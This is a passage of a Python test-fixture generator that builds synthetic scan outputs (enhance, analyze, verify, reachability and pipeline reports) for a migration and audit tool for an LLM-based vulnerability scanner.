    if fdir.is_symlink() or not fdir.is_dir():
        return
    if not os.path.lexists(edir):
        os.rename(fdir, edir)
        return
    if edir.is_symlink() or not edir.is_dir():
        return

    def info(p):
        if p.is_symlink() or not p.is_file() or not p.name.endswith(".json"):
            return None
        data = p.read_bytes()
        try:
            obj = json.loads(data)
        except ValueError:
            obj = None
        obj = obj if isinstance(obj, dict) else None
        uid = obj.get("id") if obj is not None else None
        uid = uid if isinstance(uid, str) and uid else None
        return {"sha": hashlib.sha256(data).hexdigest(), "id": uid,
                "usable": obj is not None and (p.name == "_summary.json" or uid is not None)}

    target = {p.name: info(p) for p in edir.iterdir()}
    left = False
    for p in sorted(fdir.iterdir(), key=lambda p: os.fsencode(p.name)):
        f = info(p)
        rivals = sorted(n for n, t in target.items()
                        if n == p.name or (f and f["id"] and t and t["id"] == f["id"]))
        if not rivals:
            os.rename(p, edir / p.name)
            target[p.name] = f
            continue
        if f is None or any(target[n] is None or (f["id"] and target[n]["id"] and target[n]["id"] != f["id"])
                            for n in rivals):
            left = True
            continue

        def fork_wins(n):
            t = target[n]
            if f["usable"] != t["usable"]:
                return f["usable"]
            if f["sha"] == t["sha"]:
                return False
            return mtimes.newer(p, edir / n)

        if all(fork_wins(n) for n in rivals):
            for n in rivals:
                os.remove(edir / n)
                del target[n]
            os.rename(p, edir / p.name)
            target[p.name] = f
        else:
            os.remove(p)
    if not left and not any(fdir.iterdir()):
        fdir.rmdir()


def dataset_language(p):
    """The language of the parser that wrote a dataset (`metadata.generator`), or None."""
    try:
        generator = json.loads(p.read_bytes()).get("metadata", {}).get("generator")
    except (OSError, ValueError, AttributeError):
        return None
    return {parser_generator(lang): lang for lang in LANGUAGES}.get(generator)


def ref_language_level(scan):
    """language-level: a scan dir right under scans/ moves into scans/<sha>/<language>/, the
    language from the datasets' parser and project.json, which must agree. The run dir's own
    entries stay; nothing moves over an existing entry."""
    if scan.parent.name != "scans":
        return
    langs = set()
    for name in ("dataset.json", "dataset_enhanced.json"):
        if (scan / name).is_file() and dataset_language(scan / name):
            langs.add(dataset_language(scan / name))
    project = scan.parent.parent / "project.json"
    if project.is_file():
        lang = json.loads(project.read_bytes()).get("language")
        if lang in LANGUAGES:
            langs.add(lang)
    if len(langs) != 1:
        return
    target = scan / langs.pop()
    movable = sorted(c for c in scan.iterdir() if not run_dir_entry(c))
    if any(os.path.lexists(target / c.name) for c in movable):
        return
    target.mkdir(exist_ok=True)
    for c in movable:
        os.rename(c, target / c.name)


def gen_migrated(legacy_root, migrated_root):
    """testdata/migrated/: a copy of legacy/ with the reference implementation of every
    migration applied to each scan dir, in the order `scanaudit migrate` applies them
    (src/migrate/mod.rs MIGRATIONS)."""
    shutil.copytree(legacy_root, migrated_root, symlinks=True)
    mtimes = MtimeRule(migrated_root, LEGACY_MTIMES)
    for scan in scan_dirs_of(migrated_root):
        ref_fork_enhance_dir(scan, mtimes)
        migrate_single_file_checkpoints(scan)
        # renamed-fields and file-modes change nothing in this tree (no reader needs the fields
        # renamed; git keeps no modes)
        ref_language_level(scan)
    # cp1252-to-utf8 comes before language-level in MIGRATIONS; it only rewrites bytes in place,
    # so running it over the tree after the moves gives the same files
    ref_cp1252_to_utf8(migrated_root)


# =============================================================================================
# Today's upstream OpenAnt: the "identity-gate" era
# (/work/shared/spec/openant-current.md §1-§5; docs/openant-eras.md §1 "builder facts")
# =============================================================================================

# {path relative to testdata/: "0600"} for every file of a today's-era scan that is 0600 on disk:
# everything written through utilities/file_io.write_json (mkstemp's mode survives the rename)
# and Go's meta.json (os.CreateTemp). Markdown (open_utf8) and Go's project.json (os.WriteFile
# 0644) keep 0666 & ~umask and are not listed. Written to expected/modes.json.
MODES = {}

SENTINELS = ("incomplete", "error", "unknown")      # core/verdict_taxonomy SENTINEL_CLASSIFICATIONS
BUCKETS = ("vulnerable", "bypassable", "inconclusive", "protected", "safe", "errors")
SEVERITY_ORDER = ("vulnerable", "bypassable", "inconclusive", "protected", "safe")


class Backend:
    """One phase binding: model id, provider name, adapter class name, base URL, price/token.
    `price` None: a model the price table does not know (cost 0.0, cost_incomplete)."""

    def __init__(self, model, provider, adapter, base_url=None, price=None):
        self.model = model
        self.provider = provider
        self.adapter = adapter
        self.base_url = base_url
        self.price = price

    def money(self, tin, tout):
        if self.price is None:
            return 0.0
        return round(tin * self.price[0] + tout * self.price[1], 6)

    def usage(self, tin, tout):
        u = {"input_tokens": tin, "output_tokens": tout, "cost_usd": self.money(tin, tout)}
        if self.price is None:
            u["unpriced_models"] = [self.model]
        return u


OPUS_BE = Backend("claude-opus-4-6", "anthropic", "anthropic", None, (15e-6, 75e-6))
SONNET_BE = Backend("claude-sonnet-4-6", "anthropic", "anthropic", None, (3e-6, 15e-6))
# a gateway model the price table does not know: every cost is 0.0 and marked incomplete
QWEN_BE = Backend("qwen/qwen3-coder-480b-a35b", "openrouter", "openai", "https://openrouter.ai/api/v1", None)

# Stand-ins for each phase's static prompt templates (rendered with app_context=None).
TEMPLATE_TEXTS = {
    "analyze": ["You are a security analyst. Decide whether the unit is exploitable...",
                "## Code\n\n```code\n\n```\n\nRespond with JSON: finding, reasoning, attack_vector, cwe_id"],
    "verify": ["You are an attacker simulating exploitation. Trace the path from entry point to sink..."],
    "llm_reach": ["Given a projection of the call graph, name the units an attacker can reach..."],
}
VERIFY_EXTRA = {"gen_params": {"max_tokens": 4096},
                "input_caps": {"max_prompt_chars": 400000, "max_tool_result_chars": 30000}}


def canonical_json(obj):
    return json.dumps(obj, sort_keys=True, separators=(",", ":"), ensure_ascii=True)


def sha256_hex(s):
    return hashlib.sha256(s.encode("utf-8")).hexdigest()


def fingerprint(phase, be, extra=None):
    """core/backend_identity.build_fingerprint: the KEY plus its key_digest (no written_at)."""
    key = {"scheme_version": 2, "phase": phase, "model": be.model, "provider_name": be.provider,
           "adapter_type": be.adapter, "config_base_url": be.base_url,
           "templates_sha": "sha256:" + sha256_hex("\x00".join(TEMPLATE_TEXTS[phase]))}
    if extra:
        key["extra"] = {k: extra[k] for k in sorted(extra)}
    fp = dict(key)
    fp["key_digest"] = "sha256:" + sha256_hex(canonical_json(key))
    return fp


def sidecar(fp, written_at):
    """What StepCheckpoint._write_fingerprint writes: the fingerprint plus written_at."""
    d = dict(fp)
    d["written_at"] = written_at
    return d


def short8(digest):
    return digest.split(":")[-1][:8]


def checkpoint_names(ids):
    """#317 (core/checkpoint.disambiguated_checkpoint_path) as it plays out on a
    case-insensitive filesystem, saving in `ids` order: a unit whose bare name is already taken
    by another id gets `<safe[:233]>_<sha256(id)[:16]>.json`. Returns {id: file name}."""
    taken = set()
    out = {}
    for i in ids:
        safe = safe_filename(i)
        bare = safe + ".json"
        if len(safe) > 233 or bare.lower() not in taken:
            out[i] = bare
            taken.add(bare.lower())
        else:
            out[i] = safe[:233] + "_" + hashlib.sha256(i.encode("utf-8")).hexdigest()[:16] + ".json"
    return out


def count_verdicts_current(results):
    """core/analyzer._count_verdicts@06f37c27: every non-null row counts exactly once."""
    counts = {k: 0 for k in BUCKETS}
    for r in results:
        if r is None:
            continue
        f = r.get("finding")
        v = r.get("verdict")
        if not isinstance(f, str) or not f.strip():
            f = v if isinstance(v, str) and v.strip() else None
        if f is None:
            counts["errors"] += 1
            continue
        f = f.lower()
        if f == "insufficient_context":       # #623: the legacy synonym of inconclusive
            f = "inconclusive"
        if f in counts and f != "errors":
            counts[f] += 1
        else:
            counts["errors"] += 1
    return counts


def recount_verified(rows):
    """core/verifier._write_verified_results@088cf150: the three-state recount (#284)."""
    counts = {"vulnerable": 0, "bypassable": 0, "inconclusive": 0, "protected": 0, "safe": 0,
              "errors": 0, "needs_review": 0}
    for r in rows:
        if r.get("error"):
            counts["errors"] += 1
            continue
        v = r.get("verification", {})
        if isinstance(v, dict) and v.get("incomplete"):
            counts["needs_review"] += 1
            continue
        w = str(r.get("finding") or r.get("verdict") or "error").lower()
        if w in counts:
            counts[w] += 1
        elif r.get("verdict") == "ERROR":
            counts["errors"] += 1
    return counts


def is_candidate(r):
    return str(r.get("finding") or r.get("verdict", "")).lower() in ("vulnerable", "bypassable")


class CScan(Scan):
    """A scan written by today's OpenAnt: every JSON through write_json (0600)."""

    def __init__(self, name, units, be, verify_be=None, reach_be=None, single_shot=False, **kw):
        kw.setdefault("era", "current")
        super().__init__(name, units, **kw)
        self.be = be
        self.verify_be = verify_be or be
        self.reach_be = reach_be or be
        self.single_shot = single_shot
        self.modes = {}            # rel -> "0600"
        self.skipped = []          # [(step, reason)] in the order the scanner records them

    def money(self, tin, tout):
        return self.be.money(tin, tout)

    def pj(self, rel, obj, ensure_ascii=True):
        """utilities/file_io.write_json: indent 2, no newline, ends 0600."""
        self.put(rel, py_json(obj, ensure_ascii=ensure_ascii))
        self.modes[rel] = "0600"

    def pj_open(self, rel, obj, ensure_ascii=True):
        """An older OpenAnt's `open(path, "w")` + json.dump: umask mode (0644)."""
        self.put(rel, py_json(obj, ensure_ascii=ensure_ascii))
        self.modes.pop(rel, None)

    def md(self, rel, s):
        self.put(rel, text(s))
        self.modes.pop(rel, None)


def step_report_c(step, ts, duration, cost, tin, tout, summary, inputs, outputs, status="success",
                  errors=None, unpriced=None):
    r = step_report(step, ts, duration, cost, tin, tout, summary, inputs, outputs, status=status, errors=errors)
    if unpriced:
        r["token_usage"]["cost_incomplete"] = True
        r["token_usage"]["unpriced_models"] = sorted(unpriced)
    return r


STATUS_RANK = {"success": 0, "skipped": 1, "partial": 2, "error": 3, "interrupted": 4}


def worst_status(reports):
    return max((r["status"] for r in reports), key=lambda s: STATUS_RANK[s])


def usage_block(be, tin, tout, cost):
    u = {"input_tokens": tin, "output_tokens": tout, "cost_usd": round(cost, 6)}
    if be.price is None:
        u["cost_incomplete"] = True
        u["unpriced_models"] = [be.model]
    return u


# ---- enhance --------------------------------------------------------------------------------


def build_enhance_current(sc, dataset):
    """Agentic enhance as today's enhancer writes it: the fix branch's records plus the third
    state (security_classification "incomplete", #293/#611) and #317 names. Returns
    (dataset_enhanced, {file name: record}, _summary, step summary, usage)."""
    enh, cps, _old_summary, st, usage = build_enhance(sc, dataset)
    recs = [cp for cp in cps.values()]
    names = checkpoint_names([cp["id"] for cp in recs])
    work = enhance_working(sc, enh)
    errors = sum(1 for x in work if x.get("agent_context", {}).get("error"))
    incomplete = sum(1 for x in work if not x.get("agent_context", {}).get("error")
                     and x.get("agent_context", {}).get("security_classification") == "incomplete")
    breakdown = {}
    for x in work:
        e = x.get("agent_context", {}).get("error")
        if e:
            t = e.get("type", "unknown") if isinstance(e, dict) else "unknown"
            breakdown[t] = breakdown.get(t, 0) + 1
    summary = {"step": "enhance", "phase": "done", "timestamp": utc_z(sc.t0 + 400, 120044),
               "total_units": len(work), "completed": len(work) - errors - incomplete,
               "incomplete": incomplete, "errors": errors, "error_breakdown": breakdown,
               "usage": usage_block(sc.be, usage[0], usage[1], usage[2])}
    n_inc = sum(1 for x in enh["units"] if x.get("agent_context", {}).get("security_classification") == "incomplete"
                and not x.get("agent_context", {}).get("error"))
    st = dict(st)
    st["units_enhanced"] = st["units_enhanced"] - n_inc
    st["incomplete_count"] = n_inc
    st["total_units"] = len(enh["units"])
    return enh, {names[cp["id"]]: cp for cp in recs}, summary, st, usage


def build_enhance_single_shot(sc, dataset):
    """Single-shot enhance (utilities/context_enhancer, PR #95): each unit gets `llm_context`
    {missing_dependencies, additional_callers, data_flow, imports, reasoning, confidence}; the
    checkpoint record is {id, llm_context, context_key: "llm_context"}."""
    enh = json.loads(json.dumps(dataset))
    by_id = {u.id: u for u in sc.units}
    recs = []
    sum_in = sum_out = 0
    stats = {"units_processed": 0, "units_enhanced": 0, "dependencies_added": 0, "callers_added": 0,
             "data_flows_extracted": 0, "errors": 0}
    for x in enhance_working(sc, enh):
        u = by_id[x["id"]]
        tin, tout = sc.rng.randint(3000, 9000), sc.rng.randint(300, 900)
        sum_in += tin
        sum_out += tout
        stats["units_processed"] += 1
        stats["units_enhanced"] += 1
        flows = []
        if u.finding in ("vulnerable", "bypassable"):
            flows = [{"source": "request parameter", "sink": u.fname + "()", "type": "potential " + CWE[u.kind][1]}]
            stats["data_flows_extracted"] += 1
        ctx = {"missing_dependencies": [], "additional_callers": [],
               "data_flow": {"inputs": ["request parameter"] if u.entry else [], "outputs": [],
                             "tainted_variables": [u.args.split(",")[0].strip()] if flows else [],
                             "security_relevant_flows": flows},
               "imports": [], "reasoning": "%s: %s" % (u.fname, "user input reaches a sink" if flows else
                                                        "no security-relevant flow"),
               "confidence": round(0.55 + sc.rng.random() * 0.4, 2)}
        x["llm_context"] = ctx
        recs.append({"id": x["id"], "llm_context": ctx, "context_key": "llm_context"})
    enh["metadata"]["enhancement_mode"] = "single_shot"
    enh["metadata"]["enhancement_stats"] = stats
    cost = sc.be.money(sum_in, sum_out)
    enh["metadata"]["token_usage"] = {"total_calls": 0 if sc.restored else len(recs),
                                      "total_input_tokens": sum_in, "total_output_tokens": sum_out,
                                      "total_tokens": sum_in + sum_out, "total_cost_usd": cost}
    names = checkpoint_names([r["id"] for r in recs])
    summary = {"step": "enhance", "phase": "done", "timestamp": utc_z(sc.t0 + 400, 120044),
               "total_units": len(recs), "completed": len(recs), "incomplete": 0, "errors": 0,
               "error_breakdown": {}, "usage": usage_block(sc.be, sum_in, sum_out, cost)}
    st = {"units_enhanced": len(recs), "error_count": 0, "classifications": {}, "mode": "single_shot",
          "incomplete_count": 0, "total_units": len(enh["units"])}
    return enh, {names[r["id"]]: r for r in recs}, summary, st, (sum_in, sum_out, cost)


# ---- analyze --------------------------------------------------------------------------------

ANALYZE_ERROR = "Error code: 529 - {'type': 'error', 'error': {'type': 'overloaded_error', 'message': 'Overloaded'}}"


def analyze_error_info(msg):
    """utilities/context_enhancer._build_error_info@025c52ac for an adapter LLMResponseError
    whose SDK cause carries status 529."""
    return {"type": "api_status", "exception_class": "LLMResponseError", "message": msg, "status_code": 529}


def stage1_result_current(sc, u, unit):
    r, rk, cfr = stage1_result(sc, u, unit)
    if u.error == "exception":
        r["error"] = ANALYZE_ERROR
        r["error_info"] = analyze_error_info(ANALYZE_ERROR)
    if getattr(u, "raw_verdict", None):
        r["finding"] = u.raw_verdict.lower()
        r["verdict"] = u.raw_verdict
    return r, rk, cfr


def build_analyze_current(sc, dataset_in, ds_name, fp, timestamp):
    """results.json as core/analyzer.run_analysis@06f37c27 writes it after a resumed run that
    restored every checkpoint (errored units re-analyzed, and erroring again).
    Returns (results_obj, {file name: record}, _summary, step summary, usage, old_style_rows)."""
    by_id = {u.id: u for u in sc.units}
    units = analyze_units(sc, dataset_in)
    results = []
    ok_cbr, late_cbr = [], []
    recs = []
    tin_s = tout_s = 0
    cost_s = 0.0
    errors = 0
    for unit in units:
        u = by_id[unit["id"]]
        r, rk, cfr = stage1_result_current(sc, u, unit)
        rec = {"result": r, "route_key": rk, "code_for_route": cfr}
        if u.error != "exception":
            tin, tout = len(cfr) // 3 + 2500, sc.rng.randint(250, 1400)
            rec["usage"] = sc.be.usage(tin, tout)
            tin_s += tin
            tout_s += tout
            cost_s += rec["usage"]["cost_usd"]
        rec["id"] = u.id
        recs.append(rec)
        results.append(r)
        if r.get("verdict") == "ERROR" or r.get("finding") == "error":
            errors += 1
            late_cbr.append((rk, cfr))
        else:
            ok_cbr.append((rk, cfr))
    code_by_route = {}
    for k, v in ok_cbr + late_cbr:
        code_by_route[k] = v
    results = json.loads(json.dumps(results))
    counts = count_verdicts_current(results)
    metrics = {"total": len(units)}
    metrics.update(counts)
    metrics["enhance_unclassified_analyzed"] = sum(
        1 for r in results if isinstance(r.get("security_classification"), str)
        and r["security_classification"] in SENTINELS)
    res = {"dataset": ds_name, "model": sc.be.model, "provider": sc.be.provider, "timestamp": timestamp,
           "metrics": metrics, "results": results, "code_by_route": code_by_route,
           "analyze_fingerprint": fp["key_digest"]}
    names = checkpoint_names([rec["id"] for rec in recs])
    summary = {"step": "Analyze", "phase": "done", "timestamp": utc_z(sc.t0 + 1499, 991203),
               "total_units": len(units), "completed": len(units) - errors, "incomplete": 0, "errors": errors,
               "error_breakdown": {"api": errors} if errors else {},
               "usage": usage_block(sc.be, tin_s, tout_s, cost_s)}
    step_summary = {"total_units": len(units), "analyzed": len(units) - counts["errors"],
                    "verdicts": dict(counts), "error_count": counts["errors"]}
    return res, {names[rec["id"]]: rec for rec in recs}, summary, step_summary, (tin_s, tout_s, cost_s)


# ---- verify ---------------------------------------------------------------------------------

VERIFY_ERROR = ("LLMResponseError: Error code: 529 - {'type': 'error', 'error': "
                "{'type': 'overloaded_error', 'message': 'Overloaded'}}")


def build_verify_current(sc, results_obj, be, ts):
    """results_verified.json (core/verifier@088cf150) after a resumed run that restored every
    non-errored checkpoint (agreements keep verification_note "" from their checkpoint) and
    re-verified the errored one, which errored again. Unit plans: u.verify = (agree, finding),
    "incomplete" (Max iterations reached) or "error" (the adapter raised).
    Returns (results_verified, {file name: record}, _summary, step summary, usage, fp)."""
    by_id = {u.id: u for u in sc.units}
    rows = json.loads(json.dumps(results_obj["results"]))
    cands = [r for r in rows if is_candidate(r)]
    recs = []
    stage1_of = {}
    tin_s = tout_s = 0
    cost_s = 0.0
    for r in cands:
        u = by_id[r["unit_id"]]
        plan = u.verify
        stage1 = str(r.get("finding") or r.get("verdict") or "inconclusive").lower()
        if plan == "error":
            r["error"] = VERIFY_ERROR
            r["verification"] = {"incomplete": True}
            r["verification_note"] = "Verification errored: " + VERIFY_ERROR
            usage = be.usage(0, 0)
            rec = {"verification": r["verification"], "finding": r["finding"],
                   "verification_note": r["verification_note"], "error": VERIFY_ERROR, "usage": usage}
        else:
            tin, tout = sc.rng.randint(20000, 90000), sc.rng.randint(1500, 6000)
            usage = be.usage(tin, tout)
            if plan == "incomplete":
                agree, correct = False, stage1
                v = {"agree": False, "correct_finding": stage1, "explanation": "Max iterations reached",
                     "iterations": 20, "total_tokens": tin + tout}
            else:
                agree, correct = plan
                v = {"agree": agree, "correct_finding": correct,
                     "explanation": ("Confirmed: %s" if agree else "Stage 1 was wrong: %s")
                     % ATTACK.get(u.kind, "no exploitable path"),
                     "iterations": sc.rng.randint(3, 12), "total_tokens": tin + tout}
                if u.exploit_path:
                    v["exploit_path"] = dict(u.exploit_path)
                elif agree:
                    v["exploit_path"] = {"entry_point": "HTTP request",
                                         "data_flow": ["request parameter", u.fname + "()", "sink"],
                                         "sink_reached": True, "attacker_control_at_sink": "partial",
                                         "path_broken_at": None}
                if correct in ("vulnerable", "bypassable"):
                    v["security_weakness"] = "%s (CWE-%d)" % (CWE[u.kind][1], CWE[u.kind][0])
            v["incomplete"] = plan == "incomplete"
            stage1_of[r["unit_id"]] = stage1
            note = "" if agree else "Changed from %s to %s" % (stage1, correct)
            rec = {"verification": v, "finding": stage1 if agree else correct, "verification_note": note,
                   "usage": usage}
            # restored from the checkpoint (finding_verifier.verify_batch)
            r["verification"] = json.loads(json.dumps(v))
            r["finding"] = rec["finding"]
            r["verification_note"] = note
        rec["id"] = r.get("unit_id") or r.get("route_key")
        recs.append(json.loads(json.dumps(rec)))
        tin_s += usage["input_tokens"]
        tout_s += usage["output_tokens"]
        cost_s += usage["cost_usd"]
    metrics = {"total": len(rows)}
    metrics.update(recount_verified(rows))
    out = {"dataset": results_obj.get("dataset", ""), "model": results_obj.get("model", ""),
           "timestamp": results_obj.get("timestamp", ""), "verify": True, "metrics": metrics, "results": rows,
           "confirmed_findings": [r for r in cands if is_candidate(r)]}
    # buckets of core/verifier._count_verification_outcomes
    agreed = disagreed = confirmed = needs_review = err = down = up = 0
    for r in cands:
        if r.get("error"):
            err += 1
            continue
        v = r.get("verification", {})
        if v.get("incomplete"):
            needs_review += 1
            continue
        if v.get("agree"):
            agreed += 1
            confirmed += is_candidate(r)
        else:
            if is_candidate(r):
                confirmed += 1
            else:
                disagreed += 1
            a, b = SEVERITY_ORDER.index(stage1_of[r["unit_id"]]), SEVERITY_ORDER.index(r["finding"])
            down += b > a
            up += b < a
    names = checkpoint_names([rec["id"] for rec in recs])
    # finding_verifier@03a2feee: completed = restored (non-errored) checkpoints + fresh non-errors;
    # `incomplete` is never passed to write_summary (always 0); errors = the re-verified errors
    summary = {"step": "Verify", "phase": "done", "timestamp": utc_z(ts, 5012), "total_units": len(cands),
               "completed": len(cands) - err, "incomplete": 0, "errors": err,
               "error_breakdown": {"api": err} if err else {},
               "usage": usage_block(be, tin_s, tout_s, cost_s)}
    step_summary = {"findings_input": len(cands), "findings_verified": len(cands), "agreed": agreed,
                    "disagreed": disagreed, "disagreed_inconclusive": 0, "confirmed_vulnerabilities": confirmed,
                    "needs_review": needs_review, "error_count": err, "units_analyzed_total": len(rows),
                    "downgraded": down, "upgraded": up}
    return out, {names[rec["id"]]: rec for rec in recs}, summary, step_summary, (tin_s, tout_s, cost_s)


# ---- build-output ---------------------------------------------------------------------------

FENCE_BY_EXT = {".py": "python", ".js": "javascript", ".ts": "typescript", ".go": "go"}


def identity_key(file_path, function, cwe):
    try:
        c = int(cwe or 0)
    except (TypeError, ValueError):
        c = 0
    return hashlib.sha256(("%s|%s|%d" % (file_path, function, c)).encode("utf-8")).hexdigest()[:12]


def disclosure_name(short_name):
    import re
    s = re.sub(r"[^A-Za-z0-9_-]", "_", (short_name or "").strip()).strip("._-")[:64].upper()
    return s or "UNNAMED"


DISCLOSURE_ELIGIBLE = ("confirmed", "agreed", "unverified", "vulnerable", "bypassable", "error")


def build_pipeline_current(sc, experiment, call_graph, step_reports, app_type, reach, extra_top=None,
                           context_source="generated", language=None):
    """pipeline_output.json (core/reporter.build_pipeline_output#60800372893, with the zero
    costs/durations of the newer 0652879a, #535)."""
    rows = experiment.get("results", [])
    cbr = experiment.get("code_by_route", {})
    metrics = experiment.get("metrics", {})
    confirmed = experiment.get("confirmed_findings")
    if confirmed is None:
        confirmed = [r for r in rows if is_candidate(r)]
    before = len(confirmed)
    confirmed = dedup(confirmed, rows, call_graph)
    k_err = sum(1 for c in confirmed if c.get("error"))
    k_needs = sum(1 for c in confirmed if not c.get("error") and isinstance(c.get("verification"), dict)
                  and c["verification"].get("incomplete"))
    findings = []
    for i, f in enumerate(confirmed):
        rk = f.get("route_key") or f.get("unit_id", "unknown")
        full = next((r for r in rows if (r.get("route_key") or r.get("unit_id")) == rk), f)
        vcode = cbr.get(rk)
        file_path = rk.split(":")[0] if ":" in rk else "unknown"
        func = rk.split(":", 1)[1] if ":" in rk else rk
        if vcode:
            fence = FENCE_BY_EXT.get(os.path.splitext(file_path)[1], language or "")
            vcs = "## Vulnerable Code\n\n`%s`:\n\n```%s\n%s\n```" % (file_path, fence, vcode)
        else:
            vcs = ""
        v = f.get("verification", {})
        if not isinstance(v, dict):
            v = {}
        parts = []
        if f.get("attack_vector"):
            parts.append(f["attack_vector"])
        vexp = v.get("explanation") or f.get("verification_explanation")
        if vexp:
            parts.append("Verification: " + vexp)
        steps = "\n\n".join(parts) if parts else None
        if v.get("agree", False):
            s2 = "confirmed" if f.get("exploit_path") else "agreed"
        elif v.get("incomplete"):
            s2 = "unverified"
        elif v:
            corr = str(f.get("finding") or f.get("verdict", "")).lower()
            s2 = corr if corr in ("vulnerable", "bypassable") else "rejected"
        else:
            s2 = f.get("finding", "vulnerable")
        cwe = f.get("cwe_id") or full.get("cwe_id", 0)
        d = {"id": "VULN-%03d" % (i + 1), "identity_key": identity_key(file_path, func, cwe),
             "name": f.get("finding", "Unknown Vulnerability"), "short_name": f.get("verdict", "vuln"),
             "location": {"file": file_path, "function": func}, "cwe_id": cwe,
             "cwe_name": f.get("cwe_name") or full.get("cwe_name", "Unknown"),
             "stage1_verdict": f.get("verdict", f.get("finding", "vulnerable")), "stage2_verdict": s2}
        if vexp:
            d["verification_explanation"] = vexp
        if f.get("verification_note"):
            d["verification_note"] = f["verification_note"]
        if isinstance(f.get("consistency_update"), dict):
            d["consistency_update"] = f["consistency_update"]
        if f.get("confidence") is not None:
            d["confidence"] = f["confidence"]
        if f.get("json_corrected") is not None:
            d["json_corrected"] = f["json_corrected"]
        shown = str(f.get("finding") or f.get("verdict", "")).lower()
        if (v.get("explanation") or f.get("reasoning")) == "Max iterations reached":
            shown = "inconclusive"
        if shown in ("vulnerable", "bypassable"):
            d["severity"] = "high" if shown == "vulnerable" else "medium"
            d["severity_source"] = "derived"
        d["description"] = f.get("reasoning") or full.get("reasoning")
        d["vulnerable_code"] = vcode
        d["vulnerable_code_section"] = vcs
        d["impact"] = f.get("attack_vector")
        d["suggested_fix"] = None
        d["steps_to_reproduce"] = steps
        findings.append(d)
    costs = {}
    durations = {}
    verify_scope = {}
    for sr in step_reports:
        if sr.get("step") == "verify":
            for k in ("findings_input", "units_analyzed_total", "downgraded", "upgraded"):
                if isinstance(sr["summary"].get(k), int):
                    verify_scope[k] = sr["summary"][k]
            if sr["summary"].get("same_model_verification") is not None:
                verify_scope["same_model_verification"] = bool(sr["summary"]["same_model_verification"])
            break
    for sr in step_reports:
        costs[sr["step"]] = {"actual": sr["cost_usd"]}
        durations[sr["step"]] = sr["duration_seconds"]
    total = metrics.get("total", len(rows))
    po = {"repository": {"name": sc.repo_name, "url": sc.repo_url or "", "language": language or sc.lang,
                         "commit_sha": sc.commit},
          "analysis_date": utc_iso(sc.t0 + 2700, 318274), "application_type": app_type}
    po.update(extra_top or {})
    po["context_source"] = context_source
    po["threat_model_warnings"] = []
    stats = {"total_units": total, "reachable_units": reach.get("reachable_units", total) if reach else total,
             "original_units": reach.get("original_units", total) if reach else total,
             "reachability_filter_applied": reach is not None,
             "reachability_reduction_percentage": reach.get("reduction_percentage") if reach else None,
             "reachability_warnings": []}
    stats.update(verify_scope)
    stage1 = {}
    for sr in step_reports:
        if sr["step"] == "parse" and isinstance(sr["summary"].get("total_units"), int):
            stage1["parsed_units"] = sr["summary"]["total_units"]
        if sr["step"] == "analyze":
            stage1["units_analyzed"] = sr["summary"]["analyzed"]
            stage1["stage1_errors"] = sr["summary"].get("error_count", sr["summary"]["verdicts"]["errors"])
    stats.update(stage1)
    if "units_analyzed" not in stats and not verify_scope:
        stats["units_analyzed"] = total - metrics.get("errors", 0)
    stats.update({"processing_level": sc.level,
                  "costs": costs, "durations": durations,
                  "skipped_steps": [{"step": s, "reason": why} for s, why in sc.skipped]})
    po["pipeline_stats"] = stats
    po["results"] = {"vulnerable": len(findings), "vulnerable_before_dedup": before,
                     "deduplicated": before - len(findings), "safe": metrics.get("safe", 0),
                     "protected": metrics.get("protected", 0), "inconclusive": metrics.get("inconclusive", 0),
                     "errors": max(0, metrics.get("errors", 0) - k_err),
                     "needs_review": max(0, metrics.get("needs_review", 0) - k_needs), "total": total}
    po["findings"] = findings
    return po


# ---- llm-reachability (#532) ----------------------------------------------------------------


def build_llm_reach(sc, dataset):
    """llm_reach_checkpoints/: one record per reviewed unit, {signals, projection_sha, usage, id}
    (tests of #532: signals are the unit's own in-batch signals, [] when none; projection_sha
    hashes the unit's code projection). _summary.json: step "llm_reach", no usage."""
    by_id = {u.id: u for u in sc.units}
    recs = []
    tin_s = tout_s = 0
    cost_s = 0.0
    promoted = 0
    for x in dataset["units"]:
        u = by_id[x["id"]]
        sigs = []
        if u.entry or u.route:
            sigs.append({"unit_id": u.id, "kind": "entry_point", "confidence": "high",
                         "reason": "registered as an HTTP route handler"})
            # the parser already marked it: nothing to promote, dataset.json is not rewritten
            promoted += 0 if x.get("is_entry_point") else 1
        elif u.kind in ("sql", "cmd", "path", "ssrf"):
            sigs.append({"unit_id": u.id, "kind": "external_input", "confidence": "medium",
                         "reason": "receives request-derived data from its caller"})
        tin, tout = sc.rng.randint(900, 2400), sc.rng.randint(40, 160)
        usage = sc.reach_be.usage(tin, tout)
        tin_s += tin
        tout_s += tout
        cost_s += usage["cost_usd"]
        recs.append({"signals": sigs, "projection_sha": sha256_hex(x["code"]["primary_code"]), "usage": usage,
                     "id": u.id})
    names = checkpoint_names([r["id"] for r in recs])
    summary = {"step": "llm_reach", "phase": "done", "timestamp": utc_z(sc.t0 + 58, 700112),
               "total_units": len(recs), "completed": len(recs), "incomplete": 0, "errors": 0,
               "error_breakdown": {}}
    # llm-reachability.report.json summary (openant-layout.md §3.5, 368b559+)
    step_summary = {"units_reviewed": len(recs), "signals_added": sum(len(r["signals"]) for r in recs),
                    "entry_points_promoted": promoted, "units_touched": sum(1 for r in recs if r["signals"]),
                    "post_filter_units": len(recs), "refilter_supported": True}
    return {names[r["id"]]: r for r in recs}, summary, step_summary, (tin_s, tout_s, cost_s)


# ---- the whole scan -------------------------------------------------------------------------


def coverage_block(languages):
    """core/scanner._collect_coverage: no parser here writes a scan_result(s).json with the
    coverage counts, so every language is listed as without coverage data."""
    return {"symlinks_skipped": 0, "directories_unreadable": 0, "symlink_examples": [], "unreadable_examples": [],
            "languages_without_coverage_data": sorted(languages)}


def discovery_block(languages):
    """The scan's `discovery` dict ({"per_language": {...}, languages_without_discovery_data?, ...});
    its per-language content was not read upstream, so the fixtures carry none."""
    return {"per_language": {}, "languages_without_discovery_data": sorted(languages)}


def unpriced_of(be):
    return [be.model] if be.price is None else None


def build_current_scan(sc, llm_reach=False, dyn_failure=None, multi=None, core_path=None):
    """Every file of one today's-era scan dir, as a resumed run that restored every checkpoint
    writes them (spec §3 "restored semantics"). `multi`: (dataset, analyzer_output,
    extra_top, languages) for a `-l auto` scan whose per-language parse dirs are built apart."""
    t = sc.t0
    reports = []
    if multi:
        dataset, analyzer_output, extra_top, languages = multi
        call_graph = None
        sc.pj("dataset.json", dataset)
        sc.pj("analyzer_output.json", analyzer_output)
    else:
        dataset, analyzer_output, call_graph = build_parse(sc)
        languages = [sc.lang]
        extra_top = {"per_language": {}, "parse_errors": [], "excluded_languages": {}, "degraded": False,
